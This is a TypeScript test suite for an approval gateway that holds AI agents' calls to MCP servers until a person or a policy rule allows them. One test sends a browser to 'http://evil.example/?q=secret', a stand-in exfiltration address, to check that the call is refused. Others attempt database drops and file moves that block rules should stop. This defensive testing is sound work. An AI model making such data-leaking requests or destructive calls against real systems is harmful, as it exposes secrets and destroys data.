import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { JsonObject, Policy } from '@callgate/core';
import { loadPolicy } from '@callgate/policy';
import { afterEach, describe, expect, it } from 'vitest';
import { approveCall } from '../approve-call.ts';
import { personAnswer } from '../person-answer.ts';
import type { TestGateway, TestGatewayOptions } from '../test-gateway.ts';
import { openTestGateway } from '../test-gateway.ts';
import { chromiumPath } from './chromium.ts';
import type { RealServer } from './servers.ts';
import { realServer, roomFor } from './servers.ts';

const open: TestGateway[] = [];
afterEach(async () => {
  for (const each of open.splice(0)) await each.close();
});

interface RealGateway {
  readonly at: TestGateway;
  readonly room: string;
}

const real = async (name: RealServer, more: Partial<TestGatewayOptions> = {}): Promise<RealGateway> => {
  const room = roomFor(name);
  const at = await openTestGateway({
    servers: [await realServer(name, room, { trust: 'trusted' })],
    config: (config) => ({ ...config, approvals: { ...config.approvals, waitMs: 20_000, readingMs: 0 } }),
    ...more,
  });
  open.push(at);
  return { at, room };
};

const yes = {
  capabilities: { elicitation: {} },
  answer: (_: string, form: JsonObject) => personAnswer(form),
};
const no = { capabilities: { elicitation: {} }, answer: () => ({ action: 'decline' }) };

const callIn = (result: JsonObject | undefined): string =>
  /"call":"(\w+)"/.exec(JSON.stringify(result ?? null))?.[1] ?? '';

const namesIn = (result: JsonObject | undefined, member: string): readonly string[] =>
  ((result?.[member] ?? []) as readonly { readonly name: string }[]).map(({ name }) => name);

const text = (result: JsonObject | undefined): string => JSON.stringify(result ?? null);

const blocking = (tools: string, reason: string): Policy => {
  const rule = `{id: test, tools: ["${tools}"], then: block, reason: ${reason}}`;
  const loaded = loadPolicy([{ name: 'test.yaml', text: `extends: balanced\nrules:\n  - ${rule}\n` }]);
  if (!loaded.ok) throw new Error(JSON.stringify(loaded.problems));
  return loaded.policy;
};

describe('server-everything, met in the legacy era', () => {
  it('lists, calls, completes, prompts, reads, and tells its progress', async () => {
    const { at } = await real('everything');
    const client = at.connect();
    await client.initialize();
    expect(namesIn((await client.request('tools/list', {})).result, 'tools')).toContain('get-sum');
    expect(text((await client.call('get-sum', { a: 19, b: 23 })).result)).toContain('42');
    const prompt = await client.request('prompts/get', { name: 'args-prompt', arguments: { city: 'Bern' } });
    expect(text(prompt.result)).toContain('Bern');
    const completion = await client.request('completion/complete', {
      ref: { type: 'ref/prompt', name: 'completable-prompt' },
      argument: { name: 'department', value: 'E' },
    });
    expect(completion.result).toMatchObject({ completion: { values: ['Engineering'] } });
    const resource = await client.request('resources/read', { uri: 'demo://resource/dynamic/text/1' });
    expect(text(resource.result)).toContain('Resource 1');
    await client.request('tools/call', {
      name: 'trigger-long-running-operation',
      arguments: { duration: 0.3, steps: 3 },
      _meta: { progressToken: 'far' },
    });
    const progress = client.notifications.filter(({ method }) => method === 'notifications/progress');
    expect(progress.map(({ params }) => params['progressToken'])).toEqual(['far', 'far', 'far']);
  });

  it('is cancelled, and what it still says of that call goes nowhere', async () => {
    const { at } = await real('everything');
    const client = at.connect();
    await client.initialize();
    const id = client.nextId;
    let answered = false;
    void client
      .request('tools/call', {
        name: 'trigger-long-running-operation',
        arguments: { duration: 30, steps: 30 },
        _meta: { progressToken: 1 },
      })
      .then(() => {
        answered = true;
      });
    await expect.poll(() => client.notifications.length, { timeout: 20_000 }).toBeGreaterThan(0);
    client.notify('notifications/cancelled', { requestId: id });
    const { read } = at.gateway.gate.desk;
    await expect
      .poll(async () => (await read.search({ states: ['failed'] }, { limit: 5 })).items.length, {
        timeout: 20_000,
      })
      .toBe(1);
    expect(answered).toBe(false);
  });

  it('may ask the person only where the operator lets it', async () => {
    const room = roomFor('everything');
    const answer = () => ({ action: 'accept', content: { name: 'Ada' } });
    const asking = await openTestGateway({
      servers: [
        await realServer('everything', room, {
          trust: 'owned',
          asks: { sampling: false, elicitation: true, roots: false },
        }),
      ],
    });
    open.push(asking);
    const client = asking.connect({ capabilities: { elicitation: {}, sampling: {} }, answer });
    await client.initialize();
    const names = namesIn((await client.request('tools/list', {})).result, 'tools');
    expect(names).toContain('trigger-elicitation-request');
    expect(names).not.toContain('trigger-sampling-request');
    const { result } = await client.call('trigger-elicitation-request', {});
    expect(text(result)).toContain('Ada');
    expect(String(client.asked[0]?.params['message'])).toContain('[asked by the server everything]');
  });
});

describe('server-filesystem', () => {
  it('writes only what a person agreed to', async () => {
    const { at, room } = await real('filesystem');
    const path = join(room, 'a.txt');
    const refusing = at.connect(no);
    await refusing.initialize();
    const args = { path, content: 'agreed' };
    expect((await refusing.call('write_file', args)).result).toMatchObject({ isError: true });
    expect(existsSync(path)).toBe(false);
    const agreeing = at.connect(yes);
    await agreeing.initialize();
    expect((await agreeing.call('write_file', args)).result).not.toHaveProperty('isError');
    expect(readFileSync(path, 'utf8')).toBe('agreed');
    expect(text((await agreeing.call('read_text_file', { path })).result)).toContain('agreed');
  });

  it('moves nothing where a rule blocks it', async () => {
    const policy = blocking('filesystem/move_file', 'files stay where they are');
    const { at, room } = await real('filesystem', { policy });
    writeFileSync(join(room, 'stay.txt'), 'here');
    const client = at.connect(yes);
    await client.initialize();
    const { result } = await client.call('move_file', {
      source: join(room, 'stay.txt'),
      destination: join(room, 'gone.txt'),
    });
    expect(text(result)).toContain('files stay where they are');
    expect(existsSync(join(room, 'stay.txt'))).toBe(true);
  });
});

describe('server-memory', () => {
  it('tells who subscribed of what changed, and forgets only when a person says so', async () => {
    const { at, room } = await real('memory');
    const client = at.connect(no);
    await client.initialize();
    expect((await client.request('resources/subscribe', { uri: 'memory://knowledge-graph' })).result).toEqual(
      {},
    );
    await client.call('create_entities', {
      entities: [{ name: 'Ada', entityType: 'person', observations: ['wrote the first program'] }],
    });
    await expect
      .poll(() => client.notifications.map(({ method }) => method), { timeout: 10_000 })
      .toContain('notifications/resources/updated');
    expect((await client.call('delete_entities', { entityNames: ['Ada'] })).result).toMatchObject({
      isError: true,
    });
    expect(readFileSync(join(room, 'memory.jsonl'), 'utf8')).toContain('Ada');
  });
});

describe('@playwright/mcp', () => {
  it('goes nowhere before a person has seen the address', async () => {
    const { at } = await real('playwright');
    const client = at.connect(no);
    await client.initialize();
    expect(namesIn((await client.request('tools/list', {})).result, 'tools')).toContain('browser_navigate');
    const { result } = await client.call('browser_navigate', { url: 'http://evil.example/?q=secret' });
    expect(result).toMatchObject({
      isError: true,
      _meta: { 'dev.callgate/decision': { outcome: 'refused' } },
    });
    expect(String(client.asked[0]?.params['message'])).toContain('http://evil.example/?q=secret');
  });

  it('goes where a person agreed to, and shows what is there', { timeout: 300_000 }, async ({ skip }) => {
    if ((await chromiumPath()) === undefined) skip();
    const { at } = await real('playwright');
    const client = at.connect(yes);
    await client.initialize();
    const url = 'data:text/html,<title>t</title><h1>Held%20and%20approved</h1>';
    const went = await client.call('browser_navigate', { url });
    expect(String(client.asked[0]?.params['message'])).toContain('Held%20and%20approved');
    expect(went.result).not.toHaveProperty('isError', true);
    const held = await client.call('browser_snapshot', {});
    // an answer over the agent's connection does not count for a call that may carry data out
    expect(await approveCall(at.gateway, callIn(held.result))).toBe(true);
    const { result } = await client.call('browser_snapshot', {});
    expect(text(result)).toContain('heading \\"Held and approved\\" [level=1]');
    await client.call('browser_close', {});
  });
});

/** Of a connection that there never was: whatever went through would come back as another error. */
const DROP = { database: 'ledger', connectionId: 'none' };

describe('mongodb-mcp-server, met in the modern era', () => {
  it('lists with its own `_meta`, calls and reads for clients of both eras', async () => {
    const { at } = await real('mongodb');
    await at.gateway.ready;
    const modern = at.connect();
    const { result } = await modern.modern('tools/list');
    expect(text(result)).toContain('com.mongodb/transport');
    const listed = await modern.modern('tools/call', { name: 'list-connections', arguments: {} });
    expect(listed.result).toMatchObject({ resultType: 'complete', structuredContent: { connections: [] } });
    // what was listed labels its context, and reading sends something out
    const config = await at.connect().modern('resources/read', { uri: 'config://config' });
    expect(config.result).toMatchObject({ resultType: 'complete', cacheScope: 'private' });
    const legacy = at.connect();
    await legacy.initialize('2024-11-05');
    const same = await legacy.call('list-connections');
    expect(same.result).toMatchObject({ structuredContent: { connections: [] } });
    expect(same.result).not.toHaveProperty('resultType');
  });

  it('drops nothing that a person declined', async () => {
    const { at } = await real('mongodb');
    const client = at.connect(no);
    await client.initialize();
    const { result } = await client.call('drop-database', DROP);
    expect(result).toMatchObject({
      isError: true,
      _meta: { 'dev.callgate/decision': { outcome: 'refused' } },
    });
    expect(String(client.asked[0]?.params['message'])).toContain('ledger');
  });

  it('drops nothing where a rule blocks it, and nobody is asked', async () => {
    const { at } = await real('mongodb', {
      policy: blocking('mongodb/drop-*', 'databases are dropped by hand'),
    });
    const client = at.connect(yes);
    await client.initialize();
    const { result } = await client.call('drop-database', DROP);
    expect(result).toMatchObject({ isError: true });
    expect(text(result)).toContain('databases are dropped by hand');
    expect(client.asked).toEqual([]);
  });
});
